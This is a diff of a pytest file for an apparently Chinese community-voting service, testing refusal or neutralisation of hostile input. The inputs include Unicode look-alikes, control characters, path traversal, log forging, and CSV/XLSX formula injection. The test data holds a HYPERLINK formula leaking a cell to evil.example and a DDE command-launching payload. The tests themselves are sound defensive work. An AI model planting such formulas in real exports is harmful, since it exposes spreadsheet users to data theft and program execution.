@@ -7,17 +7,32 @@ names the request and the status and error code it must get.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import logging
 import uuid
 from typing import Any
 
 import pytest
-from sqlalchemy import func, select
+from openpyxl import load_workbook
+from sqlalchemy import func, select, update
 
-from service.db.models import Ballot, Comment, Proposal, VoterCode
+from service.db.models import (
+    Ballot,
+    Comment,
+    Household,
+    Process,
+    Proposal,
+    Round,
+    RoundOption,
+    VoterCode,
+)
 from service.errors import ErrorBody
+from service.records.cells import formula_like
+from service.text import line, prose
 from tests.service.box import cast_count
-from tests.service.test_casting import PARK, make_round
+from tests.service.test_casting import PARK, cast, make_round, ranked
 
 HUGE = 2**70
 DEEP = "[" * 100_000 + "]" * 100_000
@@ -82,6 +97,31 @@ CASES: list[tuple[str, str, str, Any, dict[str, str], int, str]] = [
      404, "not-found"),
     ("path traversal as a tracker", "GET", "/api/v1/rounds/{round}/receipts/..%2F..%2Fetc", None,
      {}, 404, "not-found"),
+    # what people type (service/text.py)
+    ("zero-width twin of an option", "POST", PROPOSALS, {"title": "文化墙\u200b"}, FACILITATOR,
+     409, "option-name-taken"),
+    ("spaced-out twin of an option", "POST", PROPOSALS, {"title": " 文化\u3000墙 "}, FACILITATOR,
+     409, "option-name-taken"),
+    ("space-only title", "POST", PROPOSALS, {"title": "   "}, FACILITATOR, 422, "empty-text"),
+    ("zero-width-only title", "POST", PROPOSALS, {"title": "\u200b"}, FACILITATOR,
+     422, "empty-text"),
+    ("NUL in a title", "POST", PROPOSALS, {"title": "方案\u0000"}, FACILITATOR,
+     422, "unprintable-character"),
+    ("NUL in a comment", "POST", COMMENTS, {"stance": "support", "body": "好\u0000"}, FACILITATOR,
+     422, "unprintable-character"),
+    ("escape sequence in a speaker", "POST", COMMENTS,
+     {"stance": "support", "body": "好", "speaker": "\u001b[2J张三"}, FACILITATOR,
+     422, "unprintable-character"),
+    ("invisible-only comment", "POST", COMMENTS, {"stance": "support", "body": "\u200b\u3000\n"},
+     FACILITATOR, 422, "empty-text"),
+    ("one household twice in a roll (full-width dash)", "POST", "/api/v1/rounds/{roll}/codes",
+     {"households": ["1-101", "2-202", "1－101"]}, FACILITATOR, 422, "roll-clash"),
+    # paths (service/paths.py)
+    ("NUL in a static path", "GET", "/static/kiosk.js%00.png", None, {}, 404, "not-found"),
+    ("forged log line in a static path", "GET", "/static/%00%0aERROR - forged", None, {},
+     404, "not-found"),
+    ("control character in a tracker", "GET", "/api/v1/rounds/{round}/receipts/%1b%5b2J", None,
+     {}, 404, "not-found"),
 ]
 # fmt: on
 
@@ -91,12 +131,13 @@ async def target(db: Any) -> dict[str, int]:
     round_id = await make_round(db)
     process = await db.scalar(select(Proposal.process_id).limit(1))
     commenting = await make_round(db, phase="commenting")
-    return {"round": round_id, "process": process, "commenting": commenting}
+    roll = await make_round(db, phase="commenting", household_roll=True)
+    return {"round": round_id, "process": process, "commenting": commenting, "roll": roll}
 
 
 async def counts(db: Any) -> tuple[int, ...]:
     db.expire_all()
-    tables = (Ballot, Comment, Proposal, VoterCode)
+    tables = (Ballot, Comment, Proposal, VoterCode, Household)
     return tuple([await db.scalar(select(func.count()).select_from(t)) for t in tables])
 
 
@@ -127,20 +168,240 @@ async def test_hostile_input_gets_a_clear_refusal(
 
 @pytest.mark.parametrize("text", INJECTIONS)
 async def test_injections_are_stored_as_text(client, db, staff, target, text: str) -> None:
-    """SQL and HTML in text fields are kept verbatim as text: no query is changed, and the
-    JSON API returns them as data (pages escape them when showing them)."""
+    """SQL and HTML in text fields are kept as text, in the form every typed text is kept
+    (:mod:`service.text`): no query is changed, and the JSON API returns them as data
+    (pages escape them when showing them). A control character is refused on every
+    database alike (PostgreSQL's text could not hold NUL; SQLite's would have)."""
     headers = staff["facilitator"]
     made = await client.post(
         f"/api/v1/processes/{target['process']}/proposals",
         json={"title": text.replace("\u0000", "") or "x", "description": text},
         headers=headers,
     )
-    if "\u0000" in text and made.status_code != 201:  # PostgreSQL text cannot hold NUL
+    if "\u0000" in text:
         assert made.status_code == 422, made.text  # refused with a reason, not a crash
-        assert made.json()["code"] == "invalid"
+        refused = made.json()
+        assert (refused["code"], refused["field"]) == ("unprintable-character", "description")
         return
     assert made.status_code == 201, made.text
     again = await client.get(f"/api/v1/proposals/{made.json()['id']}", headers=headers)
-    assert again.json()["description"] == text
-    assert json.loads(again.text)["title"] == (text.replace("\u0000", "") or "x")
+    assert again.json()["description"] == prose(text)
+    assert json.loads(again.text)["title"] == line(text)
     assert await cast_count(db) == 0  # still there
+
+
+# Text a spreadsheet would run: OWASP's CSV-injection examples and plain sums.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")',
+    "+1+2",
+    "@SUM(1,2)",
+    "-2+3",
+]
+LEGACY = "红字\u001b[31m\u000b\ufffe"
+"""Stored before typed text was normalised: an escape sequence, a vertical tab and a
+noncharacter (none of which XLSX can hold; PostgreSQL stores them, unlike NUL)."""
+
+
+async def formula_round(client: Any, staff: dict[str, dict[str, str]], db: Any) -> int:
+    """A counted round whose options and comments start like formulas, and whose stored
+    texts hold control characters from before they were refused."""
+    admin, facilitator = staff["admin"], staff["facilitator"]
+    community = await client.post("/api/v1/communities", json={"name": "杜集社区"}, headers=admin)
+    process = await client.post(
+        f"/api/v1/communities/{community.json()['id']}/processes",
+        json={"title": "口袋公园", "question": "先建哪些设施？"},
+        headers=facilitator,
+    )
+    pid = process.json()["id"]
+    ids = []
+    for title in FORMULAS:
+        made = await client.post(
+            f"/api/v1/processes/{pid}/proposals", json={"title": title}, headers=facilitator
+        )
+        assert made.status_code == 201, made.text
+        assert made.json()["title"] == title  # stored as typed: it is text
+        ids.append(made.json()["id"])
+    made = await client.post(
+        f"/api/v1/processes/{pid}/rounds",
+        json={"title": "第一轮", "method": "irv", "proposal_ids": ids},
+        headers=facilitator,
+    )
+    rid = made.json()["id"]
+    phase = f"/api/v1/rounds/{rid}/phase"
+    assert (await client.post(phase, json={"to": "commenting"}, headers=facilitator)).is_success
+    for body in ("=1+2", "\t=cmd|' /C calc'!A0", "-5"):
+        said = await client.post(
+            f"/api/v1/rounds/{rid}/comments",
+            json={"stance": "neutral", "body": body},
+            headers=facilitator,
+        )
+        assert said.status_code == 201, said.text
+    assert (await client.post(phase, json={"to": "voting"}, headers=facilitator)).is_success
+    issued = await client.post(f"/api/v1/rounds/{rid}/codes", json={"count": 3}, headers=admin)
+    for n, item in enumerate(issued.json()["codes"]):
+        ranking = [[FORMULAS[n]], [FORMULAS[3]]]
+        ballot = {"kind": "ranked", "ranking": ranking}
+        cast = await client.post(
+            f"/api/v1/rounds/{rid}/ballots",
+            json={"code": item["code"], "key": uuid.uuid4().hex, "ballot": ballot},
+        )
+        assert cast.status_code == 201, cast.text
+    assert (await client.post(phase, json={"to": "closed"}, headers=facilitator)).is_success
+    legacy = update(Comment).where(Comment.round_id == rid, Comment.body == "-5")
+    await db.execute(legacy.values(body="意见" + LEGACY))
+    await db.execute(update(Process).where(Process.id == pid).values(question="问题" + LEGACY))
+    if db.bind.dialect.name == "sqlite":  # PostgreSQL's text cannot hold NUL at all
+        await db.execute(update(Process).where(Process.id == pid).values(title="口袋公园\u0000"))
+    await db.commit()
+    return rid
+
+
+def spreadsheet_cells(content: bytes) -> list[Any]:
+    book = load_workbook(io.BytesIO(content))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+async def test_every_export_of_hostile_text_is_safe_for_spreadsheets(client, staff, db) -> None:
+    """Option names and comments that start like formulas, and stored control characters:
+    every export answers 200; no XLSX cell is a formula and no CSV cell starts like one;
+    characters XLSX cannot hold are replaced; counts stay numbers."""
+    rid = await formula_round(client, staff, db)
+    secretary = staff["secretary"]
+    round_record = await client.get(f"/api/v1/rounds/{rid}", headers=secretary)
+    pid = round_record.json()["process_id"]
+    formats = (await client.get("/api/v1/exports", headers=secretary)).json()
+    for fmt in formats:
+        name = fmt["name"]
+        if fmt["kinds"] and "ranked" not in fmt["kinds"]:
+            continue
+        answer = await client.get(f"/api/v1/rounds/{rid}/exports/{name}", headers=secretary)
+        if name == "blt":  # BLT quotes names and has no escape for a quote: said, not a 500
+            assert answer.status_code == 400, answer.text[:300]
+            assert "has a quote or line break" in answer.json()["message_en"]
+            continue
+        assert answer.status_code == 200, (name, answer.text[:300])
+        if fmt["process"]:
+            whole = await client.get(f"/api/v1/processes/{pid}/exports/{name}", headers=secretary)
+            assert whole.status_code == 200, (name, whole.text[:300])
+        if name == "xlsx":
+            cells = spreadsheet_cells(answer.content)
+            assert all(cell.data_type != "f" for cell in cells)
+            texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+            for formula in FORMULAS:
+                assert formula in texts  # shown as typed, as text
+            assert "意见红字\ufffd[31m\ufffd\ufffd" in texts
+            assert any(isinstance(cell.value, int) and cell.value == 3 for cell in cells)
+        if name.endswith("-csv"):
+            rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+            cells = [cell for row in rows for cell in row]
+            assert not [c for c in cells if formula_like(c)], cells
+            if name == "comments-csv":
+                assert "'=1+2" in cells
+                assert "'=cmd|' /C calc'!A0" in cells  # the tab went with the typing
+            if name == "rounds-csv":
+                assert f"'{FORMULAS[0]}" in cells
+                assert "3" in cells  # a count is written as a number, unmarked
+
+
+@pytest.mark.parametrize("typed", ["1－101", "１-１０１", " 1 — 101 ", "1\u2010101", "1−101"])
+async def test_a_household_votes_once_however_its_label_is_typed(client, db, staff, typed):
+    """``1-101`` voted; the same household typed with another dash, full-width digits or
+    spaces gets no second code — and neither does a label stored before labels were
+    normalised (``2－202``)."""
+    round_id = await make_round(db, household_roll=True)
+    url = f"/api/v1/rounds/{round_id}/codes"
+    head = staff["facilitator"]
+    first = await client.post(url, json={"households": ["1-101"]}, headers=head)
+    assert first.status_code == 201, first.text
+    [code] = [c["code"] for c in first.json()["codes"]]
+    assert (await cast(client, round_id, code, ranked(PARK[0]))).status_code == 201
+    again = await client.post(url, json={"households": [typed]}, headers=head)
+    assert again.status_code == 201, again.text
+    assert (again.json()["codes"], again.json()["skipped"]) == ([], ["1-101"])
+    db.add(Household(round_id=round_id, label="2－202", voted=True))
+    await db.commit()
+    legacy = await client.post(url, json={"households": ["2-202"]}, headers=head)
+    assert (legacy.json()["codes"], legacy.json()["skipped"]) == ([], ["2－202"])
+    labels = (await db.scalars(select(Household.label).where(Household.round_id == round_id))).all()
+    assert sorted(labels) == ["1-101", "2－202"]  # nothing added, nothing rewritten
+
+
+async def test_a_roll_that_names_a_household_twice_says_which_lines(client, db, staff):
+    round_id = await make_round(db, household_roll=True)
+    roll = ["1-101", "1-102", "１－１０１", "1-103", "1-102"]
+    refused = await client.post(
+        f"/api/v1/rounds/{round_id}/codes", json={"households": roll}, headers=staff["admin"]
+    )
+    assert refused.status_code == 422
+    body = refused.json()
+    assert (body["code"], body["field"]) == ("roll-clash", "households")
+    assert body["detail"]["lines"] == [[1, 3], [2, 5]]
+    assert body["message_zh"] == (
+        "户籍名单中有重复的户：第 1、3 行（1-101、１－１０１）是同一户；第 2、5 行（1-102、1-102）"
+        "是同一户。同一户只能出现一次，请合并后重新提交"
+    )
+    assert "lines 1, 3 (1-101, １－１０１) are one household" in body["message_en"]
+    assert await db.scalar(select(func.count()).select_from(VoterCode)) == 0
+
+
+async def test_look_alike_options_stop_voting_from_opening(client, db, staff):
+    """Two options whose names differ only by an invisible character, case or spaces (stored
+    before names were normalised) cannot open for voting until one is renamed."""
+    round_id = await make_round(db, phase="scheduled")
+    round_row = await db.get(Round, round_id)
+    twins = [
+        Proposal(process_id=round_row.process_id, title="同名方案"),
+        Proposal(process_id=round_row.process_id, title="同名方案\u200b"),
+        Proposal(process_id=round_row.process_id, title="Park A"),
+        Proposal(process_id=round_row.process_id, title="park\u3000ａ"),
+    ]
+    db.add_all(twins)
+    await db.flush()
+    db.add_all(
+        [RoundOption(round_id=round_id, proposal_id=p.id, position=i) for i, p in enumerate(twins)]
+    )
+    round_row.slate = None
+    await db.commit()
+    head = staff["facilitator"]
+    shown = (await client.get(f"/api/v1/rounds/{round_id}", headers=head)).json()
+    a, b, c, d = (p.id for p in twins)
+    assert shown["issues_before_freeze_zh"] == [
+        f"第 {a} 号方案「同名方案」和第 {b} 号方案「同名方案\u200b」的名称看起来相同"
+        "（只差大小写、空格或看不见的字符），选民无法区分，请改名",
+        f"第 {c} 号方案「Park A」和第 {d} 号方案「park\u3000ａ」的名称看起来相同"
+        "（只差大小写、空格或看不见的字符），选民无法区分，请改名",
+    ]
+    assert shown["issues_before_freeze"][0].startswith(f"options {a} «同名方案» and {b} «")
+    opened = await client.post(
+        f"/api/v1/rounds/{round_id}/phase", json={"to": "voting"}, headers=head
+    )
+    assert opened.status_code == 409
+    assert opened.json()["code"] == "round-not-ready"
+    renamed = await client.patch(
+        f"/api/v1/proposals/{b}", json={"title": "同名方案（二）"}, headers=head
+    )
+    assert renamed.status_code == 200, renamed.text
+    again = await client.patch(f"/api/v1/proposals/{d}", json={"title": "PARK a"}, headers=head)
+    assert again.status_code == 409  # renaming into a look-alike is refused too
+    assert (again.json()["code"], again.json()["field"]) == ("option-name-taken", "title")
+    assert again.json()["detail"]["proposal_id"] == c
+
+
+async def test_a_forged_log_line_stays_on_its_line(client, caplog) -> None:
+    """``%0a`` in a path cannot start a line of its own in the log: the path is refused
+    before anything logs it, and what the service logs is escaped and indented."""
+    with caplog.at_level(logging.DEBUG):
+        answer = await client.get("/static/%00%0aERROR - forged")
+        assert answer.status_code == 404
+        try:
+            raise ValueError("bad value\nERROR - forged too")
+        except ValueError as exc:
+            logging.getLogger("service.errors").error(
+                "unexpected error on %s %s", "GET", "/x\nERROR - forged", exc_info=exc
+            )
+    formatter = logging.Formatter("%(levelname)s - %(name)s - %(message)s")
+    lines = "\n".join(formatter.format(r) for r in caplog.records).splitlines()
+    assert not [line for line in lines if line.startswith("ERROR - forged")], lines
+    assert "ERROR - service.errors - unexpected error on GET /x\\nERROR - forged" in lines
+    assert "  ValueError: bad value" in lines
+    assert "  ERROR - forged too" in lines
